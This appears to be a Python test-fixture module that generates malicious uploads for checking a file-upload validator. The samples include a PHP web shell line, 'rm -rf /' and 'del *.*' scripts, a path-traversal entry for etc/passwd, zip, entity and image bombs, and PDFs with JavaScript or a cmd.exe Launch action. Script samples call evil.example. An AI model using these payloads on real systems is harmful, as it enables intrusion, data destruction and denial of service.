"""Files as people and attackers send them, made here and not kept as files."""

from __future__ import annotations

import base64
import io
import struct
import zipfile
import zlib
from functools import cache
from typing import NamedTuple

from PIL import Image, ImageDraw

TOO_BIG_OPENED = "The file is too big when opened"
OTHER_KIND = "This kind of file is not accepted."
DAMAGED = "The file cannot be opened."
ZIP = "Zip files are not accepted. Send the files one by one"
MACROS = "Files with macros are not accepted"
SCRIPTS = "Files with scripts are not accepted"
INSIDE = "Files with other files inside are not accepted"
OUTSIDE = "Files that fetch something from elsewhere, such as a template or a picture,"
PASSWORD = "Files with a password are not accepted."
VIRUS = "This file has a virus in it and was not kept"
EMPTY = "The file is empty"
TOO_BIG = "The file is too big. The limit is 8 MB a file"
SPY = b"GPS-SECRET-PLACE"


def picture(width: int = 640, height: int = 480, mode: str = "RGB") -> Image.Image:
    """Its upper left quarter is red, so that one sees which way up it is."""
    drawn = Image.new(mode, (width, height), "white")
    ImageDraw.Draw(drawn).rectangle((0, 0, width // 2, height // 2), fill="red")
    return drawn


def saved(drawn: Image.Image, format: str, **how: object) -> bytes:
    out = io.BytesIO()
    drawn.save(out, format, **how)
    return out.getvalue()


def jpeg(orientation: int = 1) -> bytes:
    """With a place, a comment and a maker in it, as phones write them."""
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = SPY.decode()
    place = exif.get_ifd(0x8825)
    place[1], place[2] = "N", (53.0, 28.0, 46.0)
    return saved(picture(), "JPEG", exif=exif.tobytes(), comment=SPY, quality=80)


def png(**how: object) -> bytes:
    from PIL.PngImagePlugin import PngInfo

    about = PngInfo()
    about.add_text("Comment", SPY.decode())
    return saved(picture(), "PNG", pnginfo=about, **how)


# 64 by 48, blue on the left and red on the right, with EXIF. Made with libheif's own encoder.
HEIC = base64.b64decode(
    "AAAAHGZ0eXBoZWljAAAAAG1pZjFoZWljbWlhZgAAAb5tZXRhAAAAAAAAACFoZGxyAAAAAAAAAABwaWN0AAAAAAAAAAAA"
    "AAAAAAAAADRpbG9jAAAAAERAAAIAAQAAAAAB4gABAAAAAAAAACQAAgAAAAACBgABAAAAAAAAACwAAAA4aWluZgAAAAAA"
    "AgAAABVpbmZlAgAAAAABAABodmMxAAAAABVpbmZlAgAAAQACAABFeGlmAAAAAA5waXRtAAAAAAABAAAA/WlwcnAAAADd"
    "aXBjbwAAAHZodmNDAQNwAAAAkAAAAAAAHvAA/P34+AAADwNgAAEAGEABDAH//wNwAAADAJAAAAMAAAMAHroCQGEAAQAq"
    "QgEBA3AAAAMAkAAAAwAAAwAeoCCBBZbq5Ka5uAhoMCAAAAMDIAAAAwAhYgABAAZEAcFzwIkAAAATY29scm5jbHgAAQAN"
    "AAaAAAAAFGlzcGUAAAAAAAAAQAAAAEAAAAAoY2xhcAAAAEAAAAABAAAAMAAAAAEAAAAAAAAAAv////AAAAACAAAAEHBp"
    "eGkAAAAAAwgICAAAABhpcG1hAAAAAAAAAAEAAQWBAgMFhAAAABppcmVmAAAAAAAAAA5jZHNjAAIAAQABAAAAWG1kYXQA"
    "AAAgKAGvGYDvSaW//+4VgR813b82yF4Xs5B/0Vp57vcDbW8AAAAGRXhpZgAATU0AKgAAAAgAAQEPAAIAAAAHAAAAGgAA"
    "AABTcHlDYW0AAA=="
)


def huge_png(side: int = 50_000) -> bytes:
    """So many black pixels in a few kilobytes."""

    def chunk(name: bytes, data: bytes) -> bytes:
        body = name + data
        return struct.pack("!I", len(data)) + body + struct.pack("!I", zlib.crc32(body))

    head = struct.pack("!IIBBBBB", side, side, 1, 0, 0, 0, 0)
    packer = zlib.compressobj(9)
    row = bytes(side // 8 + 1)
    rows = b"".join(packer.compress(row * 100) for _ in range(side // 100)) + packer.flush()
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def pdf(pages: int = 1, extra: bytes = b"", catalog: bytes = b"") -> bytes:
    """Objects 1 (catalogue), 2 (pages), 3… (a page each), then whatever `extra` is."""
    kids = b" ".join(b"%d 0 R" % (number + 3) for number in range(pages))
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R %b>>" % catalog,
        b"<< /Type /Pages /Count %d /Kids [%b] >>" % (pages, kids),
        *[b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"] * pages,
    ]
    if extra:
        objects.append(extra)
    out, places = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), []
    for number, one in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%b\nendobj\n" % (number, one)
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\n" % (len(objects) + 1)
    return bytes(out + b"startxref\n%d\n%%%%EOF\n" % table)


def packed_script() -> bytes:
    """The script stands in a compressed stream of things, where reading the bytes finds none."""
    inside = b"9 0 << /S /Java#53cript /JS (app.alert(1)) >>"
    squeezed = zlib.compress(inside)
    head = b"<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>" % len(squeezed)
    return pdf(extra=head + b"\nstream\n" + squeezed + b"\nendstream")


def packed_action(
    more: bytes = b"", filter: bytes = b"/Filter /FlateDecode", after: bytes = b"\n"
) -> bytes:
    """A valid PDF: what it does when it is opened stands in a compressed stream of things."""
    inside = b"4 0 << /S /JavaScript /JS (app.alert(1)) >>"
    squeezed = zlib.compress(inside)
    about = b"<< /Type /ObjStm /N 1 /First 4 %b %b /Length %d >>" % (more, filter, len(squeezed))
    things = {
        1: b"<< /Type /Catalog /Pages 2 0 R /OpenAction 4 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] >>",
        5: about + b"\nstream" + after + squeezed + b"\nendstream",
    }
    out, places = bytearray(b"%PDF-1.5\n"), {}
    for number, thing in things.items():
        places[number] = len(out)
        out += b"%d 0 obj\n%b\nendobj\n" % (number, thing)
    places[6] = len(out)
    rows = b"\0\0\0\0\xff" + b"".join(
        b"\2" + (5).to_bytes(3, "big") + b"\0"
        if number == 4
        else b"\1" + places[number].to_bytes(3, "big") + b"\0"
        for number in range(1, 7)
    )
    table = b"<< /Type /XRef /Size 7 /W [1 3 1] /Root 1 0 R /Length %d >>" % len(rows)
    out += b"6 0 obj\n%b\nstream\n%b\nendstream\nendobj\n" % (table, rows)
    return bytes(out + b"startxref\n%d\n%%%%EOF" % places[6])


def unlisted_action() -> bytes:
    """The same, packed in another way, where the file's own table does not lead."""
    whole = pdf()
    inside = b"4 0 << /S /JavaScript /JS (app.alert(1)) >>".hex().encode()
    about = b"<< /Type /ObjStm /N 1 /First 4 /Filter /ASCIIHexDecode /Length %d >>" % len(inside)
    thing = b"9 0 obj\n%b\nstream\n%b>\nendstream\nendobj\n" % (about, inside)
    table = whole.rindex(b"xref\n0 ")
    return whole + thing + b"startxref\n%d\n%%%%EOF\n" % table


_OFFICE_MAIN = {
    "docx": ("word/document.xml", "wordprocessingml.document.main+xml"),
    "xlsx": ("xl/workbook.xml", "spreadsheetml.sheet.main+xml"),
    "pptx": ("ppt/presentation.xml", "presentationml.presentation.main+xml"),
}


def office(kind: str = "docx", types: str = "", **more: bytes) -> bytes:
    """`more`: entries; a `__` in a name is a slash."""
    main, word = _OFFICE_MAIN[kind]
    content_type = f"application/vnd.openxmlformats-officedocument.{word}"
    said = f'<Types><Override PartName="/{main}" ContentType="{content_type}"/>{types}</Types>'
    entries = {"[Content_Types].xml": said.encode(), main: b"<w:document/>"}
    entries |= {name.replace("__", "/"): content for name, content in more.items()}
    return archive(entries)


def open_document(kind: str = "text", **more: bytes) -> bytes:
    mimetype = f"application/vnd.oasis.opendocument.{kind}".encode()
    entries = {"mimetype": mimetype, "content.xml": b"<office:document-content/>"}
    return archive(entries | {name.replace("__", "/"): one for name, one in more.items()})


def archive(entries: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as made:
        for name, content in entries.items():
            made.writestr(name, content, zipfile.ZIP_STORED if name == "mimetype" else None)
    return out.getvalue()


@cache
def zeros(mebibytes: int) -> bytes:
    return bytes(mebibytes * 1024 * 1024)


def bomb(kind: str = "docx") -> bytes:
    """A few hundred kilobytes that say themselves that they are gigabytes."""
    whole = archive({f"word/{number}.bin": zeros(64) for number in range(2)})
    lying = whole.replace(struct.pack("<I", len(zeros(64))), struct.pack("<I", 2_500_000_000))
    return lying if kind == "plain" else office("docx", word__document2=zeros(120))


def nested_zips() -> bytes:
    inner = archive({"a.txt": b"deep"})
    for _ in range(3):
        inner = archive({f"{number}.zip": inner for number in range(4)})
    return inner


EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-" + b"ANTIVIRUS-TEST-FILE!" + b"$H+H*"
SCRIPT = b"<script>alert(document.domain);fetch('https://evil.example/')</script>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + SCRIPT + b"</svg>"
HTML = b"<!doctype html><title>x</title>" + SCRIPT


class Hostile(NamedTuple):
    name: str
    content: bytes
    sentence: str


# fmt: off
_TEMPLATE = (
    b'<Relationships><Relationship Id="r1" Target="https://evil.example/t.dotm" TargetMode="External"'
    b' Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate"/>'
    b"</Relationships>"
)


@cache
def hostile() -> dict[str, Hostile]:
    """What is refused, and the sentence that says why."""
    plain = archive({"notes.txt": b"hello"})
    huge = jpeg() + bytes(9 * 1024 * 1024)
    macro = {"word__vbaProject.bin": b"\xd0\xcf\x11\xe0"}
    script = {"catalog": b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >> "}
    launch = {"catalog": b"/OpenAction << /S /Launch /F (cmd.exe) >> "}
    return {
        "svg":              Hostile("plan.svg", SVG, OTHER_KIND),
        "svg called png":   Hostile("plan.png", SVG, OTHER_KIND),
        "svg after blanks": Hostile("plan.txt", b"\n" * 300 + SVG, OTHER_KIND),
        "html":             Hostile("page.html", HTML, OTHER_KIND),
        "html called text": Hostile("page.txt", b"hello\n" + HTML, OTHER_KIND),
        "html with a mark": Hostile("page.txt", b"\xef\xbb\xbf" + HTML, OTHER_KIND),
        "xml":              Hostile("a.xml", b"<?xml version='1.0'?><a/>", OTHER_KIND),
        "php":              Hostile("a.jpg", b"<?php system($_GET[0]);", OTHER_KIND),
        "shell script":     Hostile("run.txt", b"#!/bin/sh\nrm -rf /\n", OTHER_KIND),
        "batch file":       Hostile("run.bat", b"@echo off\r\ndel *.*\r\n", OTHER_KIND),
        "program":          Hostile("photo.jpg", b"MZ\x90\0\3\0\0\0" + bytes(200), OTHER_KIND),
        "elf":              Hostile("photo.png", b"\x7fELF\2\1\1" + bytes(200), OTHER_KIND),
        "java class":       Hostile("a.jar", b"\xca\xfe\xba\xbe\0\0\0\x34" + bytes(50), OTHER_KIND),
        "old word":         Hostile("a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), OTHER_KIND),
        "rtf":              Hostile("a.rtf", b"{\\rtf1\\ansi hello}", OTHER_KIND),
        "gzip":             Hostile("a.pdf", b"\x1f\x8b\x08" + bytes(60), OTHER_KIND),
        "utf-7":            Hostile("a.txt", b"+ADw-script\0", OTHER_KIND),
        "zip":              Hostile("all.zip", plain, ZIP),
        "zip called docx":  Hostile("letter.docx", plain, ZIP),
        "jar":              Hostile("a.jar", archive({"META-INF/MANIFEST.MF": b"Main-Class: X"}), ZIP),
        "zips in zips":     Hostile("all.zip", nested_zips(), TOO_BIG_OPENED),
        "docx bomb":        Hostile("letter.docx", bomb(), TOO_BIG_OPENED),
        "zip bomb":         Hostile("all.zip", bomb("plain"), TOO_BIG_OPENED),
        "many entries":     Hostile("a.docx", office(**{f"e{n}": b"" for n in range(2100)}), TOO_BIG_OPENED),
        "entity bomb":      Hostile("a.docx", office(**{"word__x.xml": b"<!DOCTYPE a [<!ENTITY b 'cc'>]><a/>"}), TOO_BIG_OPENED),
        "way out":          Hostile("a.docx", office(**{"..__..__etc__passwd": b"x"}), DAMAGED),
        "zip after gif":    Hostile("a.zip", b"PK\3\4" + plain, OTHER_KIND),
        "zip with a tail":  Hostile("a.docx", office() + HTML, OTHER_KIND),
        "cut-off docx":     Hostile("a.docx", office()[:-30], DAMAGED),
        "docm":             Hostile("a.docm", office(**macro), MACROS),
        "docm, renamed":    Hostile("a.docx", office(types="<Default ContentType='application/vnd.ms-word.document.macroEnabled.main+xml'/>"), MACROS),
        "excel 4 macros":   Hostile("a.xlsx", office("xlsx", **{"xl__macrosheets__sheet1.xml": b"<a/>"}), MACROS),
        "odt with basic":   Hostile("a.odt", open_document(**{"Basic__Standard__Module1.xml": b"<a/>"}), MACROS),
        "template outside": Hostile("a.docx", office(**{"word___rels__settings.xml.rels": _TEMPLATE}), OUTSIDE),
        "packed program":   Hostile("a.docx", office(**{"word__embeddings__oleObject1.bin": b"MZ"}), INSIDE),
        "zip in docx":      Hostile("a.docx", office(**{"word__embeddings__x.docx": archive({"a": plain})}), TOO_BIG_OPENED),
        "pdf with script":  Hostile("a.pdf", pdf(**script), SCRIPTS),
        "pdf, packed":      Hostile("a.pdf", packed_script(), SCRIPTS),
        "pdf that starts":  Hostile("a.pdf", pdf(**launch), SCRIPTS),
        "pdf with files":   Hostile("a.pdf", pdf(catalog=b"/Names << /EmbeddedFiles 9 0 R >> "), INSIDE),
        "pdf, 10,000 pages": Hostile("a.pdf", pdf(10_000), TOO_BIG_OPENED),
        "pdf with password": Hostile("a.pdf", pdf().replace(b"/Root 1 0 R", b"/Root 1 0 R /Encrypt << /Filter /Standard >>"), PASSWORD),
        "html in pdf":      Hostile("a.pdf", b"%PDF-1.7\n" + HTML + pdf()[9:], OTHER_KIND),
        "pdf and zip":      Hostile("a.pdf", pdf() + plain, OTHER_KIND),
        "pdf and html":     Hostile("a.pdf", pdf() + HTML, OTHER_KIND),
        "html before pdf":  Hostile("a.pdf", HTML + pdf(), OTHER_KIND),
        "pdf, cut off":     Hostile("a.pdf", pdf()[:120], DAMAGED),
        "png, 50,000²":     Hostile("wall.png", huge_png(), TOO_BIG_OPENED),
        "png, cut off":     Hostile("a.png", png()[:200], DAMAGED),
        "jpeg, only a head": Hostile("a.jpg", b"\xff\xd8\xff\xe0" + bytes(80), DAMAGED),
        "heic, broken":     Hostile("a.heic", HEIC[:300], DAMAGED),
        "webp, broken":     Hostile("a.webp", b"RIFF\x10\0\0\0WEBPVP8 " + bytes(30), DAMAGED),
        "virus":            Hostile("a.txt", EICAR, VIRUS),
        "virus in docx":    Hostile("a.docx", office(word__note=EICAR), VIRUS),
        "empty":            Hostile("a.txt", b"", EMPTY),
        "only blanks":      Hostile("a.txt", b"  \n\n ", EMPTY),
        "too big":          Hostile("a.jpg", huge, TOO_BIG),
    }
# fmt: on
